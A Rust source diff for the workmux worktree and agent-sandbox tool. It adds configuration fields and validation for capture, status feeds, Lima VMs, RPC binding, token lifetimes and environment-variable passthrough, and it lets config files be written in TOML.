@@ -1,9 +1,11 @@
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::env;
 use std::fs;
 use std::path::{Path, PathBuf};
 use tracing::debug;
 
+use crate::shell::{Posix, ShellQuoting};
 use crate::{cmd, git, nerdfont};
 use which::{which, which_in};
 
@@ -14,6 +16,7 @@ const NODE_MODULES_CLEANUP_SCRIPT: &str = include_str!("scripts/cleanup_node_mod
 
 /// Configuration for file operations during worktree creation
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
 pub struct FileConfig {
     /// Glob patterns for files to copy from the repo root to the new worktree
     #[serde(default)]
@@ -26,6 +29,7 @@ pub struct FileConfig {
 
 /// Configuration for agent status icons displayed in tmux window bar
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
 pub struct StatusIcons {
     /// Icon shown when agent is working. Default: 🤖
     pub working: Option<String>,
@@ -51,6 +55,7 @@ impl StatusIcons {
 
 /// Configuration for LLM-based branch name generation
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
 pub struct AutoNameConfig {
     /// Model to use with llm CLI (e.g., "gpt-4o-mini", "claude-3-5-sonnet").
     /// If not set, uses llm's default model.
@@ -67,6 +72,7 @@ pub struct AutoNameConfig {
 
 /// Configuration for dashboard actions (commit, merge keybindings)
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
 pub struct DashboardConfig {
     /// Text to send to agent for commit action (c key).
     /// Default: "Commit staged changes with a descriptive message"
@@ -109,8 +115,74 @@ impl DashboardConfig {
     }
 }
 
+/// Configuration for the `capture` command
+#[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
+pub struct CaptureConfig {
+    /// Shell command used by `capture --summarize`. Receives the stripped
+    /// transcript on stdin and prints a summary to stdout (e.g. "llm -s 'Summarize'").
+    pub summarizer: Option<String>,
+    /// Snapshots kept per worktree by `capture --snapshot`; older ones are
+    /// deleted. Default: 20
+    pub snapshot_retention: Option<usize>,
+}
+
+impl CaptureConfig {
+    pub fn summarizer(&self) -> Option<&str> {
+        self.summarizer.as_deref().filter(|s| !s.trim().is_empty())
+    }
+
+    pub fn snapshot_retention(&self) -> usize {
+        self.snapshot_retention.unwrap_or(20).max(2)
+    }
+}
+
+/// Configuration for the JSON-lines feed of status changes
+#[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
+pub struct StatusFeedConfig {
+    /// Append every status change to the feed. Default: false
+    pub enabled: Option<bool>,
+    /// Feed file. Default: `$XDG_STATE_HOME/workmux/status-feed.jsonl`
+    pub path: Option<String>,
+    /// Size at which the feed is rotated to `<path>.1`, e.g. "1MiB".
+    /// Default: 1MiB
+    pub max_size: Option<String>,
+}
+
+impl StatusFeedConfig {
+    pub fn enabled(&self) -> bool {
+        self.enabled.unwrap_or(false)
+    }
+
+    pub fn path(&self) -> anyhow::Result<PathBuf> {
+        match &self.path {
+            Some(path) => Ok(expand_tilde(path)),
+            None => Ok(crate::state::store::get_state_dir()?.join("workmux/status-feed.jsonl")),
+        }
+    }
+
+    pub fn max_size(&self) -> anyhow::Result<u64> {
+        match self.max_size.as_deref() {
+            Some(size) => parse_size(size)
+                .ok_or_else(|| anyhow::anyhow!("Invalid status_feed.max_size: '{}'", size)),
+            None => Ok(1 << 20),
+        }
+    }
+}
+
+/// Multiplexer selection configuration
+#[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
+pub struct MultiplexerConfig {
+    /// Force a backend instead of auto-detecting it from the environment:
+    /// tmux, wezterm, kitty or zellij. `$WORKMUX_BACKEND` takes precedence.
+    pub backend: Option<String>,
+}
+
 /// Configuration for a single window within a session (session mode only)
 #[derive(Debug, Deserialize, Serialize, Clone)]
+#[serde(deny_unknown_fields)]
 pub struct WindowConfig {
     /// Optional window name. If omitted, tmux auto-names based on running command.
     #[serde(default)]
@@ -123,11 +195,17 @@ pub struct WindowConfig {
 
 /// Configuration for the workmux tool, read from .workmux.yaml
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
 pub struct Config {
     /// The primary branch to merge into (optional, auto-detected if not set)
     #[serde(default)]
     pub main_branch: Option<String>,
 
+    /// Branch worktrees are compared against for merge status in `list`
+    /// (optional, falls back to `main_branch`)
+    #[serde(default)]
+    pub base_branch: Option<String>,
+
     /// Directory where worktrees should be created (optional, defaults to <project>__worktrees pattern)
     /// Can be relative to repo root or absolute path
     #[serde(default)]
@@ -186,6 +264,26 @@ pub struct Config {
     #[serde(default)]
     pub status_icons: StatusIcons,
 
+    /// Coalesce status updates arriving within this many milliseconds.
+    /// Default: 200, 0 disables
+    #[serde(default)]
+    pub status_debounce_ms: Option<u64>,
+
+    /// Label shown for an agent's status in the window name. Placeholders:
+    /// `{glyph}`, `{status}`, `{branch}`, `{tokens}`, `{cost}`, `{usage}`.
+    /// Default: "{glyph} {usage}"
+    #[serde(default)]
+    pub status_template: Option<String>,
+
+    /// Agent hook events that update the status, written by `workmux setup`.
+    /// Default: all of them
+    #[serde(default)]
+    pub status_events: Option<Vec<StatusEvent>>,
+
+    /// JSON-lines feed of status changes, for status-bar widgets
+    #[serde(default)]
+    pub status_feed: StatusFeedConfig,
+
     /// Configuration for LLM-based branch name generation
     #[serde(default)]
     pub auto_name: Option<AutoNameConfig>,
@@ -194,6 +292,19 @@ pub struct Config {
     #[serde(default)]
     pub dashboard: DashboardConfig,
 
+    /// Capture command configuration
+    #[serde(default)]
+    pub capture: CaptureConfig,
+
+    /// Multiplexer backend selection
+    #[serde(default)]
+    pub multiplexer: MultiplexerConfig,
+
+    /// Named agent command templates for `sandbox run --template <name>`.
+    /// Placeholders: `{worktree}`, `{branch}`, `{prompt_file}`.
+    #[serde(default)]
+    pub commands: BTreeMap<String, String>,
+
     /// Whether to use nerdfont icons (None = prompt user on first run)
     #[serde(default)]
     pub nerdfont: Option<bool>,
@@ -214,6 +325,7 @@ pub struct Config {
 
 /// Configuration for a single tmux pane
 #[derive(Debug, Deserialize, Serialize, Clone)]
+#[serde(deny_unknown_fields)]
 pub struct PaneConfig {
     /// A command to run when the pane is created. The pane will remain open
     /// with an interactive shell after the command completes. If not provided,
@@ -244,6 +356,10 @@ pub struct PaneConfig {
     /// Only used when `split` is specified.
     #[serde(default)]
     pub target: Option<usize>,
+
+    /// A name for the pane (e.g. `editor`), for `workmux capture --pane`.
+    #[serde(default)]
+    pub role: Option<String>,
 }
 
 #[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
@@ -262,6 +378,36 @@ pub enum MergeStrategy {
     Squash,
 }
 
+/// Agent hook events that can update the window status. Named after the
+/// Copilot CLI hooks; each agent's setup maps them to its own events.
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "camelCase")]
+pub enum StatusEvent {
+    /// The user submitted a prompt (sets working)
+    UserPromptSubmitted,
+    /// A tool call finished (sets working again, e.g. after a permission prompt)
+    PostToolUse,
+    /// The agent finished its turn (sets done)
+    AgentStop,
+}
+
+impl StatusEvent {
+    pub const ALL: [StatusEvent; 3] = [
+        StatusEvent::UserPromptSubmitted,
+        StatusEvent::PostToolUse,
+        StatusEvent::AgentStop,
+    ];
+
+    /// The name used in config (and in Copilot's `hooks.json`).
+    pub fn name(self) -> &'static str {
+        match self {
+            StatusEvent::UserPromptSubmitted => "userPromptSubmitted",
+            StatusEvent::PostToolUse => "postToolUse",
+            StatusEvent::AgentStop => "agentStop",
+        }
+    }
+}
+
 /// Color theme for the dashboard
 #[derive(Debug, Deserialize, Serialize, Clone, Copy, Default, PartialEq)]
 #[serde(rename_all = "lowercase")]
@@ -304,6 +450,16 @@ pub enum SandboxBackend {
     Lima,
 }
 
+impl SandboxBackend {
+    /// Quoting rules for the shell the backend runs commands under. Both
+    /// current backends hand commands to `sh -lc` in a Linux guest.
+    pub fn shell_quoting(&self) -> &'static dyn ShellQuoting {
+        match self {
+            SandboxBackend::Container | SandboxBackend::Lima => &Posix,
+        }
+    }
+}
+
 /// Container runtime for sandbox
 #[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Default)]
 #[serde(rename_all = "lowercase")]
@@ -366,6 +522,30 @@ pub enum SandboxTarget {
     All,
 }
 
+/// When the sandbox supervisor re-runs an agent command that exited.
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Eq, Default)]
+#[serde(rename_all = "kebab-case")]
+pub enum RestartPolicy {
+    /// Run the agent once (default)
+    #[default]
+    Never,
+    /// Re-run it when it exits with a non-zero status
+    OnFailure,
+    /// Re-run it whenever it exits
+    Always,
+}
+
+impl RestartPolicy {
+    /// Whether an agent that exited with `exit_code` should be re-run.
+    pub fn should_restart(self, exit_code: i32) -> bool {
+        match self {
+            RestartPolicy::Never => false,
+            RestartPolicy::OnFailure => exit_code != 0,
+            RestartPolicy::Always => true,
+        }
+    }
+}
+
 /// Toolchain integration mode for Lima sandboxes.
 /// Controls whether devbox.json/flake.nix are detected and used
 /// to wrap agent commands with the appropriate environment.
@@ -445,7 +625,7 @@ impl ExtraMount {
 }
 
 /// Expand `~` or `~/...` to the user's home directory.
-fn expand_tilde(path: &str) -> PathBuf {
+pub(crate) fn expand_tilde(path: &str) -> PathBuf {
     if let Some(rest) = path.strip_prefix("~/") {
         if let Some(home) = home::home_dir() {
             return home.join(rest);
@@ -461,6 +641,7 @@ fn expand_tilde(path: &str) -> PathBuf {
 /// Lima-specific sandbox configuration.
 /// Nested under `sandbox.lima` in YAML.
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
 pub struct LimaConfig {
     /// Isolation level. Default: project
     #[serde(default)]
@@ -493,9 +674,57 @@ pub struct LimaConfig {
     /// Custom `provision` script still runs if specified.
     #[serde(default)]
     pub skip_default_provision: Option<bool>,
+
+    /// Lima template new VMs are created from: a template name (e.g. `docker`
+    /// or `template://ubuntu-lts`) or a path to a `.yaml` file. Only the
+    /// template's images and provisioning are used; workmux still controls
+    /// mounts and resources.
+    #[serde(default)]
+    pub template: Option<String>,
+
+    /// Run agents through the guest's login shell, which sources its
+    /// profiles. Turn off when an image's profiles print banners or reset
+    /// the environment; agents then run under `sh -c` over plain `ssh`.
+    /// Default: true
+    #[serde(default)]
+    pub login_shell: Option<bool>,
+
+    /// How long `limactl start` may take to create or boot the VM before
+    /// it's given up on (e.g. `"10m"`). Default: 5m
+    #[serde(default)]
+    pub boot_timeout: Option<String>,
+}
+
+/// Bytes in a Lima size such as `4GiB`, `512MiB` or `8G`. Units are binary
+/// whichever way they're spelled, as Lima reads them. `None` for anything
+/// that isn't a positive size.
+pub fn parse_size(s: &str) -> Option<u64> {
+    let s = s.trim();
+    let split = s
+        .find(|c: char| !(c.is_ascii_digit() || c == '.'))
+        .unwrap_or(s.len());
+    let (number, unit) = s.split_at(split);
+    let number: f64 = number.parse().ok()?;
+    let shift = match unit.trim().to_ascii_lowercase().as_str() {
+        "" | "b" => 0,
+        "k" | "kb" | "kib" => 10,
+        "m" | "mb" | "mib" => 20,
+        "g" | "gb" | "gib" => 30,
+        "t" | "tb" | "tib" => 40,
+        _ => return None,
+    };
+    (number > 0.0).then(|| (number * (1u64 << shift) as f64) as u64)
 }
 
 impl LimaConfig {
+    pub fn boot_timeout(&self) -> anyhow::Result<std::time::Duration> {
+        match self.boot_timeout.as_deref() {
+            Some(timeout) => crate::util::parse_duration(timeout)
+                .map_err(|e| anyhow::anyhow!("Invalid sandbox.lima.boot_timeout: {}", e)),
+            None => Ok(std::time::Duration::from_secs(5 * 60)),
+        }
+    }
+
     pub fn isolation(&self) -> IsolationLevel {
         self.isolation.clone().unwrap_or_default()
     }
@@ -520,6 +749,29 @@ impl LimaConfig {
         self.skip_default_provision.unwrap_or(false)
     }
 
+    pub fn template(&self) -> Option<&str> {
+        self.template.as_deref().filter(|s| !s.trim().is_empty())
+    }
+
+    pub fn login_shell(&self) -> bool {
+        self.login_shell.unwrap_or(true)
+    }
+
+    /// Check `cpus` and `memory` before they reach `limactl`, which would
+    /// only fail once it tries to boot the VM.
+    pub fn validate_resources(&self) -> anyhow::Result<()> {
+        if self.cpus() == 0 {
+            anyhow::bail!("lima.cpus must be a positive integer");
+        }
+        if parse_size(self.memory()).is_none() {
+            anyhow::bail!(
+                "lima.memory: '{}' is not a size (e.g. 4GiB, 512MiB)",
+                self.memory()
+            );
+        }
+        Ok(())
+    }
+
     /// Merge: project overrides global, per-field.
     fn merge(global: Self, project: Self) -> Self {
         Self {
@@ -532,6 +784,9 @@ impl LimaConfig {
             skip_default_provision: project
                 .skip_default_provision
                 .or(global.skip_default_provision),
+            template: project.template.or(global.template),
+            login_shell: project.login_shell.or(global.login_shell),
+            boot_timeout: project.boot_timeout.or(global.boot_timeout),
         }
     }
 }
@@ -539,6 +794,7 @@ impl LimaConfig {
 /// Container-specific sandbox configuration.
 /// Nested under `sandbox.container` in YAML.
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
 pub struct ContainerConfig {
     /// Container runtime. Auto-detected from PATH if not set.
     #[serde(default)]
@@ -575,6 +831,7 @@ pub enum NetworkPolicy {
 /// inside the container enforces that only the proxy and RPC ports are
 /// reachable, preventing bypass via direct connections.
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
 pub struct NetworkConfig {
     /// Network restriction policy. Default: allow (no restrictions).
     /// Set to "deny" to block all outbound except whitelisted domains.
@@ -630,8 +887,43 @@ fn validate_domain(domain: &str) -> anyhow::Result<()> {
     Ok(())
 }
 
+/// The global `env_passthrough` plus the project config's entries that the
+/// global config lists in `env_passthrough_optional`. Other project entries
+/// are ignored with a warning.
+fn merge_env_passthrough(global: &SandboxConfig, project: &SandboxConfig) -> Option<Vec<String>> {
+    let Some(requested) = &project.env_passthrough else {
+        return global.env_passthrough.clone();
+    };
+    let optional = global
+        .env_passthrough_optional
+        .as_deref()
+        .unwrap_or_default();
+    let mut merged = global.env_passthrough.clone().unwrap_or_default();
+    for name in requested {
+        if merged.contains(name) {
+            continue;
+        }
+        if optional.contains(name) {
+            merged.push(name.clone());
+        } else {
+            tracing::warn!(
+                "env_passthrough entry {} in project config (.workmux.yaml) is ignored -- \
+                add it to env_passthrough_optional in your global config \
+                (~/.config/workmux/config.yaml)",
+                name
+            );
+        }
+    }
+    if merged.is_empty() && global.env_passthrough.is_none() {
+        None
+    } else {
+        Some(merged)
+    }
+}
+
 /// Configuration for sandboxing (Container or Lima)
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[serde(deny_unknown_fields)]
 pub struct SandboxConfig {
     /// Enable sandboxing. Default: false
     #[serde(default)]
@@ -655,12 +947,81 @@ pub struct SandboxConfig {
     #[serde(default)]
     pub env_passthrough: Option<Vec<String>>,
 
+    /// Variables a project config may add to `env_passthrough` by listing
+    /// them in its own `env_passthrough`. Global config only. Default: []
+    #[serde(default)]
+    pub env_passthrough_optional: Option<Vec<String>>,
+
+    /// Variables never passed through, even when listed in
+    /// `env_passthrough`. Global and project lists are combined. Default: []
+    #[serde(default)]
+    pub env_deny: Option<Vec<String>>,
+
+    /// Dotenv file whose variables are set in the sandbox, relative to the
+    /// worktree root. Missing files are skipped. Default: `.workmux.env`
+    #[serde(default)]
+    pub env_file: Option<String>,
+
     /// Override the hostname used by containers to reach the host RPC server.
     /// Defaults to `host.docker.internal` (Docker) or `host.containers.internal` (Podman).
     /// Useful for non-standard Podman or custom networking setups.
     #[serde(default)]
     pub rpc_host: Option<String>,
 
+    /// Address the host RPC server listens on. Default: `127.0.0.1`, which
+    /// guests reach through `host.lima.internal` or Docker Desktop's
+    /// `host.docker.internal`. Set it (e.g. to the `docker0` bridge address,
+    /// or `0.0.0.0`) only when guests reach the host over another interface.
+    /// Global config only.
+    #[serde(default)]
+    pub rpc_bind: Option<String>,
+
+    /// Also serve the RPC methods over HTTP on the RPC port, for local tools
+    /// such as a browser dashboard. Requests carry the session token as
+    /// `Authorization: Bearer`. Default: false. Global config only.
+    #[serde(default)]
+    pub rpc_http: Option<bool>,
+
+    /// Restrict the host RPC server to a port range, e.g. `"40000-40100"`.
+    /// Useful when a firewall only allows guest traffic on specific ports.
+    /// Default: any free port.
+    #[serde(default)]
+    pub rpc_ports: Option<String>,
+
+    /// Maximum number of concurrent guest connections to the host RPC server.
+    /// Connections beyond it are rejected. Default: 16.
+    #[serde(default)]
+    pub rpc_max_conns: Option<usize>,
+
+    /// How long a supervisor keeps reusing the RPC token saved in the
+    /// worktree before generating a new one (e.g. `"12h"`). Default: 24h.
+    #[serde(default)]
+    pub rpc_token_ttl: Option<String>,
+
+    /// Random bytes in the RPC token, hex-encoded so it's safe in env vars
+    /// and shell strings. At least 16 (128 bits). Default: 32.
+    #[serde(default)]
+    pub token_bytes: Option<usize>,
+
+    /// Check that the guest can reach the RPC server before starting the
+    /// agent (Lima backend only). Default: true.
+    #[serde(default)]
+    pub preflight: Option<bool>,
+
+    /// Re-run the agent command after it exits: `never`, `on-failure` or
+    /// `always`. Capped by `sandbox run --max-restarts`. Default: never.
+    #[serde(default)]
+    pub restart: Option<RestartPolicy>,
+
+    /// Save the pane's final screen to `last-capture.txt` in the worktree's
+    /// state directory when the agent exits. Default: false
+    #[serde(default)]
+    pub capture_on_exit: Option<bool>,
+
+    /// Lines `capture_on_exit` keeps. Default: 200
+    #[serde(default)]
+    pub capture_on_exit_lines: Option<u16>,
+
     /// Toolchain integration mode for sandboxes.
     /// Controls automatic detection and use of devbox.json/flake.nix.
     /// Default: auto (detect and wrap automatically)
@@ -673,6 +1034,36 @@ pub struct SandboxConfig {
     #[serde(default)]
     pub host_commands: Option<Vec<String>>,
 
+    /// Command used to open files the guest requests via `workmux open-path`,
+    /// e.g. `code -r`. The file path is appended as the last argument.
+    /// Default: `$EDITOR`, falling back to `vi`.
+    #[serde(default)]
+    pub open_command: Option<String>,
+
+    /// Programs the host may run to open a file the guest requests. An
+    /// opener whose program isn't listed is refused.
+    /// Default: just the program of the resolved `open_command`.
+    #[serde(default)]
+    pub rpc_allowed_openers: Option<Vec<String>>,
+
+    /// Shell command run on the host after the sandboxed agent exits, with
+    /// `WM_AGENT_EXIT` and `WM_WORKTREE` set. Runs whether or not the agent
+    /// succeeded; its own failure is only logged.
+    #[serde(default)]
+    pub post_run: Option<String>,
+
+    /// Directory the agent starts in, relative to the worktree root (e.g. a
+    /// package in a monorepo). It must exist and stay inside the worktree.
+    /// Default: the worktree root
+    #[serde(default)]
+    pub workdir: Option<String>,
+
+    /// Lima's home directory, exported as `LIMA_HOME` to every `limactl`
+    /// workmux runs. Overrides a `LIMA_HOME` already in the environment.
+    /// Default: `LIMA_HOME` if set, else Lima's default (`~/.lima`)
+    #[serde(default)]
+    pub lima_home: Option<String>,
+
     /// Extra mount points for the sandbox.
     /// Paths are mounted read-only by default. Supports simple string paths
     /// or detailed specs with guest_path and writable options.
@@ -733,14 +1124,114 @@ impl SandboxConfig {
         }
     }
 
+    /// Variables to pass through, minus those in `env_deny`.
     pub fn env_passthrough(&self) -> Vec<&str> {
+        let deny = self.env_deny.as_deref().unwrap_or_default();
         self.env_passthrough
             .as_ref()
-            .map(|v| v.iter().map(|s| s.as_str()).collect())
+            .map(|v| {
+                v.iter()
+                    .filter(|name| !deny.contains(name))
+                    .map(|s| s.as_str())
+                    .collect()
+            })
             .unwrap_or_default()
     }
 
+    pub fn env_file(&self) -> &str {
+        self.env_file.as_deref().unwrap_or(".workmux.env")
+    }
+
+    pub fn lima_home(&self) -> Option<PathBuf> {
+        self.lima_home.as_deref().map(expand_tilde)
+    }
+
     /// Get the RPC host address, using config override or runtime default.
+    pub fn rpc_max_conns(&self) -> usize {
+        self.rpc_max_conns
+            .unwrap_or(crate::sandbox::rpc::DEFAULT_MAX_CONNECTIONS)
+            .max(1)
+    }
+
+    pub fn rpc_token_ttl(&self) -> anyhow::Result<std::time::Duration> {
+        match self.rpc_token_ttl.as_deref() {
+            Some(ttl) => crate::util::parse_duration(ttl)
+                .map_err(|e| anyhow::anyhow!("Invalid sandbox.rpc_token_ttl: {}", e)),
+            None => Ok(std::time::Duration::from_secs(24 * 3600)),
+        }
+    }
+
+    pub fn token_bytes(&self) -> anyhow::Result<usize> {
+        use crate::sandbox::rpc::{DEFAULT_TOKEN_BYTES, MAX_TOKEN_BYTES, MIN_TOKEN_BYTES};
+        match self.token_bytes {
+            None => Ok(DEFAULT_TOKEN_BYTES),
+            Some(n) if (MIN_TOKEN_BYTES..=MAX_TOKEN_BYTES).contains(&n) => Ok(n),
+            Some(n) => anyhow::bail!(
+                "Invalid sandbox.token_bytes: {} (must be between {} and {})",
+                n,
+                MIN_TOKEN_BYTES,
+                MAX_TOKEN_BYTES
+            ),
+        }
+    }
+
+    pub fn preflight(&self) -> bool {
+        self.preflight.unwrap_or(true)
+    }
+
+    pub fn restart(&self) -> RestartPolicy {
+        self.restart.unwrap_or_default()
+    }
+
+    pub fn capture_on_exit(&self) -> bool {
+        self.capture_on_exit.unwrap_or(false)
+    }
+
+    pub fn capture_on_exit_lines(&self) -> u16 {
+        self.capture_on_exit_lines.unwrap_or(200).max(1)
+    }
+
+    /// Parse `rpc_ports` (`"START-END"` or a single port) into a range.
+    pub fn rpc_port_range(&self) -> anyhow::Result<Option<std::ops::RangeInclusive<u16>>> {
+        let Some(spec) = self.rpc_ports.as_deref() else {
+            return Ok(None);
+        };
+        let parse = |s: &str| {
+            s.trim().parse::<u16>().map_err(|_| {
+                anyhow::anyhow!("Invalid sandbox.rpc_ports '{}': expected START-END", spec)
+            })
+        };
+        let (start, end) = match spec.split_once('-') {
+            Some((start, end)) => (parse(start)?, parse(end)?),
+            None => {
+                let port = parse(spec)?;
+                (port, port)
+            }
+        };
+        if start == 0 || start > end {
+            anyhow::bail!("Invalid sandbox.rpc_ports '{}': expected START-END", spec);
+        }
+        Ok(Some(start..=end))
+    }
+
+    /// Parse `rpc_bind`. Defaults to loopback, except for containers on
+    /// Linux, which can't reach the host's loopback and get every interface.
+    pub fn rpc_bind_addr(&self) -> anyhow::Result<std::net::IpAddr> {
+        use crate::sandbox::rpc::{DEFAULT_BIND_ADDR, LINUX_CONTAINER_BIND_ADDR};
+        match self.rpc_bind.as_deref() {
+            None if self.backend() == SandboxBackend::Container && cfg!(target_os = "linux") => {
+                Ok(LINUX_CONTAINER_BIND_ADDR)
+            }
+            None => Ok(DEFAULT_BIND_ADDR),
+            Some(addr) => addr.trim().parse().map_err(|_| {
+                anyhow::anyhow!(
+                    "Invalid sandbox.rpc_bind '{}': expected an IP address such as 127.0.0.1",
+                    addr
+                )
+            }),
+        }
+    }
+
     pub fn resolved_rpc_host(&self) -> String {
         self.rpc_host
             .clone()
@@ -759,6 +1250,21 @@ impl SandboxConfig {
         self.extra_mounts.as_deref().unwrap_or(&[])
     }
 
+    /// Check that every extra mount resolves and its host path exists, so a
+    /// typo is reported before the sandbox starts rather than as a mount error.
+    pub fn validate_extra_mounts(&self) -> anyhow::Result<()> {
+        for mount in self.extra_mounts() {
+            let (host_path, _, _) = mount.resolve()?;
+            if !host_path.exists() {
+                anyhow::bail!(
+                    "extra_mounts: host path '{}' does not exist",
+                    host_path.display()
+                );
+            }
+        }
+        Ok(())
+    }
+
     pub fn allow_unsandboxed_host_exec(&self) -> bool {
         self.dangerously_allow_unsandboxed_host_exec
             .unwrap_or(false)
@@ -802,11 +1308,53 @@ pub struct ConfigLocation {
     pub rel_dir: PathBuf,
 }
 
-/// Find the nearest .workmux.yaml by walking up from start_dir to repo root.
+/// File names tried for the project config, in every directory searched.
+const PROJECT_CONFIG_NAMES: [&str; 3] = [".workmux.yaml", ".workmux.yml", ".workmux.toml"];
+/// File names tried for the global config in `~/.config/workmux`.
+const GLOBAL_CONFIG_NAMES: [&str; 3] = ["config.yaml", "config.yml", "config.toml"];
+
+/// Syntax of a config file, chosen by its extension.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ConfigFormat {
+    Yaml,
+    Toml,
+}
+
+impl ConfigFormat {
+    /// `.toml` files are TOML; anything else is read as YAML.
+    pub fn of(path: &Path) -> Self {
+        match path.extension().and_then(|e| e.to_str()) {
+            Some("toml") => Self::Toml,
+            _ => Self::Yaml,
+        }
+    }
+}
+
+/// The config file in `dir` named one of `names`, if any.
+///
+/// When several exist, the first in `names` wins and the rest are reported,
+/// so a stray duplicate doesn't silently shadow the file being edited.
+fn find_config_in(dir: &Path, names: &[&str]) -> Option<PathBuf> {
+    let mut found = names
+        .iter()
+        .map(|name| dir.join(name))
+        .filter(|path| path.exists());
+    let chosen = found.next()?;
+    let ignored: Vec<String> = found.map(|p| p.display().to_string()).collect();
+    if !ignored.is_empty() {
+        tracing::warn!(
+            path = %chosen.display(),
+            ignored = %ignored.join(", "),
+            "config:several config files found; using the first, remove the others"
+        );
+    }
+    Some(chosen)
+}
+
+/// Find the nearest project config (`.workmux.yaml`, `.workmux.yml` or
+/// `.workmux.toml`) by walking up from start_dir to repo root.
 /// Returns ConfigLocation with the relative path computed at discovery time.
 pub fn find_project_config(start_dir: &Path) -> anyhow::Result<Option<ConfigLocation>> {
-    let config_names = [".workmux.yaml", ".workmux.yml"];
-
     let repo_root = match git::get_repo_root_for(start_dir) {
         Ok(root) => root,
         Err(_) => return Ok(None),
@@ -825,24 +1373,21 @@ pub fn find_project_config(start_dir: &Path) -> anyhow::Result<Option<ConfigLoca
 
     // Walk upward from start_dir to repo_root (inclusive)
     loop {
-        for name in &config_names {
-            let candidate = dir.join(name);
-            if candidate.exists() {
-                let rel_dir = dir
-                    .strip_prefix(&repo_root)
-                    .map(|p| p.to_path_buf())
-                    .unwrap_or_default();
-                debug!(
-                    path = %candidate.display(),
-                    rel_dir = %rel_dir.display(),
-                    "config:found project config"
-                );
-                return Ok(Some(ConfigLocation {
-                    config_path: candidate,
-                    config_dir: dir,
-                    rel_dir,
-                }));
-            }
+        if let Some(candidate) = find_config_in(&dir, &PROJECT_CONFIG_NAMES) {
+            let rel_dir = dir
+                .strip_prefix(&repo_root)
+                .map(|p| p.to_path_buf())
+                .unwrap_or_default();
+            debug!(
+                path = %candidate.display(),
+                rel_dir = %rel_dir.display(),
+                "config:found project config"
+            );
+            return Ok(Some(ConfigLocation {
+                config_path: candidate,
+                config_dir: dir,
+                rel_dir,
+            }));
         }
         if dir == repo_root {
             break;
@@ -855,18 +1400,15 @@ pub fn find_project_config(start_dir: &Path) -> anyhow::Result<Option<ConfigLoca
     // Fallback: check main worktree root (preserves existing behavior for linked worktrees)
     if let Ok(main_root) = git::get_main_worktree_root() {
         let main_root = main_root.canonicalize().unwrap_or(main_root);
-        if main_root != repo_root {
-            for name in &config_names {
-                let candidate = main_root.join(name);
-                if candidate.exists() {
-                    debug!(path = %candidate.display(), "config:found main-worktree config");
-                    return Ok(Some(ConfigLocation {
-                        config_path: candidate,
-                        config_dir: main_root.clone(),
-                        rel_dir: PathBuf::new(), // Main worktree root = empty rel_dir
-                    }));
-                }
-            }
+        if main_root != repo_root
+            && let Some(candidate) = find_config_in(&main_root, &PROJECT_CONFIG_NAMES)
+        {
+            debug!(path = %candidate.display(), "config:found main-worktree config");
+            return Ok(Some(ConfigLocation {
+                config_path: candidate,
+                config_dir: main_root.clone(),
+                rel_dir: PathBuf::new(), // Main worktree root = empty rel_dir
+            }));
         }
     }
 
@@ -888,6 +1430,70 @@ impl WorktreeNaming {
     }
 }
 
+/// Default for `status_template`: the icon, followed by usage when reported.
+pub const DEFAULT_STATUS_TEMPLATE: &str = "{glyph} {usage}";
+
+/// Placeholders recognized in `status_template`.
+pub const STATUS_PLACEHOLDERS: &[&str] = &["glyph", "status", "branch", "tokens", "cost", "usage"];
+
+/// Substitute each `{name}` in `template` with `value(name)`. `{{` stands
+/// for a literal `{`.
+pub fn substitute_placeholders(
+    template: &str,
+    mut value: impl FnMut(&str) -> anyhow::Result<String>,
+) -> anyhow::Result<String> {
+    let mut out = String::new();
+    let mut rest = template;
+    while let Some(start) = rest.find('{') {
+        out.push_str(&rest[..start]);
+        let after = &rest[start + 1..];
+        if let Some(escaped) = after.strip_prefix('{') {
+            out.push('{');
+            rest = escaped;
+            continue;
+        }
+        let end = after
+            .find('}')
+            .ok_or_else(|| anyhow::anyhow!("unclosed '{{' in '{}'", template))?;
+        out.push_str(&value(&after[..end])?);
+        rest = &after[end + 1..];
+    }
+    out.push_str(rest);
+    Ok(out)
+}
+
+/// Substitute each `{name}` in a status template with `value(name)`.
+///
+/// Runs of whitespace are collapsed and the result trimmed, so placeholders
+/// without a value don't leave gaps.
+pub fn render_status_template(
+    template: &str,
+    value: impl FnMut(&str) -> anyhow::Result<String>,
+) -> anyhow::Result<String> {
+    let out = substitute_placeholders(template, value)?;
+    Ok(out.split_whitespace().collect::<Vec<_>>().join(" "))
+}
+
+/// Reject templates with unknown or malformed placeholders.
+fn validate_status_template(template: &str) -> anyhow::Result<()> {
+    render_status_template(template, |name| {
+        if STATUS_PLACEHOLDERS.contains(&name) {
+            Ok(String::new())
+        } else {
+            anyhow::bail!(
+                "unknown placeholder '{{{}}}' in status_template (expected one of: {})",
+                name,
+                STATUS_PLACEHOLDERS
+                    .iter()
+                    .map(|p| format!("{{{}}}", p))
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            )
+        }
+    })
+    .map(|_| ())
+}
+
 /// Validate windows configuration
 pub fn validate_windows_config(windows: &[WindowConfig]) -> anyhow::Result<()> {
     if windows.is_empty() {
